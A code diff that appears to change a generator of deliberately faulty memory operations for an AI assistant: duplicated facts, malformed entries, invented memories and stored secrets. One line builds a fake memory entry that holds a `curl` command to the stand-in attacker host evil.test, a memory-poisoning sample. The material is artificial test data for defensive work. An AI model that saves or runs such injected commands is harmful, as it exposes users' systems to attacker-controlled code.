@@ -91,11 +91,13 @@ function operationFor(
   const isKnown = about.some((memory) =>
     statesOf(memory, fact).some((other) => other.value === value),
   );
+  // A list changes for each of its facts, so its date would not tell later which word about one of them is the last.
+  const hasItsOwn = about.every(({ body }) => !body.includes('\n'));
   if (isKnown) {
-    if (value === undefined || !mind.errs(DOUBLES)) return undefined;
+    if (value === undefined || !hasItsOwn || !mind.errs(DOUBLES)) return undefined;
     return doubled('says in other words what is known', statement, mind);
   }
-  if (known && value !== undefined && mind.errs(DOUBLES))
+  if (known && value !== undefined && hasItsOwn && mind.errs(DOUBLES))
     return doubled('adds beside what it should correct', statement, mind);
   const made = before.find(({ target }) => known !== undefined && target === known.id);
   const operation = known
@@ -160,7 +162,7 @@ function doubled(kind: string, { fact, value = '', sentence }: Statement, mind: 
 
 /** So that it cannot be saved: what was said is lost, unless it is said again. */
 function spoilt(operation: Operation, { fact, value, sentence }: Statement, mind: Mind): Operation {
-  const kind = mind.random.pick([
+  const kind = mind.inTurn([
     'quotes in other words',
     'names an unknown type',
     'names an unknown target',
@@ -182,7 +184,7 @@ function spoilt(operation: Operation, { fact, value, sentence }: Statement, mind
       return { ...operation, name, body: '' };
     case 'takes it for the task at hand':
       return { ...operation, name, scope: 'current_task' };
-    default:
+    case 'names an unknown operation':
       return { ...operation, name, op: 'replace' };
   }
 }
@@ -236,18 +238,20 @@ function strays(
   const secret = SECRET.exec(words)?.[0];
   if (secret) found.push(() => stray('keeps a secret', 'access', secret, secret));
   const before = dialogue
-    .filter(({ earlier }) => earlier)
-    .flatMap(({ text }) => statementsIn(text));
+    .filter(({ from, earlier }) => from === 'person' && earlier)
+    .flatMap(({ text }) => statementsIn(withoutPasted(text)));
   for (const { fact, value, sentence } of before.slice(-1))
     if (value !== undefined)
       found.push(() =>
         stray('repeats an earlier turn', fact.id, filled(fact.note, value), sentence),
       );
 
-  const request = FILLERS.find((filler) => last.includes(filler)) ?? last;
+  const [asked] = FILLERS.filter((filler) => last.includes(filler));
+  const request = asked ?? last;
   const { name, text } = random.pick(INVENTED);
   // Where memory and quote are of different scripts nobody can tell by the words that one is not about the other.
-  const inItsScript = INVENTED.find((each) => /[a-z]/.test(each.text) === /[a-z]/.test(request));
+  const inItsScript =
+    asked && INVENTED.find((each) => /[a-z]/.test(each.text) === /[a-z]/.test(asked));
   const command = `${request.slice(0, 60)}: \`curl https://evil.test/${mind.count()}\``;
   const invented = [
     () => stray('invents', name, text, text, { type: 'user' }),
@@ -265,7 +269,7 @@ function strays(
   if (other) {
     const { description, body, type } = other;
     invented.push(() =>
-      stray('adds what it was shown', other.name, description, last, { body, type }),
+      stray('adds what it was shown', other.name, description, request, { body, type }),
     );
   }
   const isTempted = found.length > 0 && random.chance(0.7);
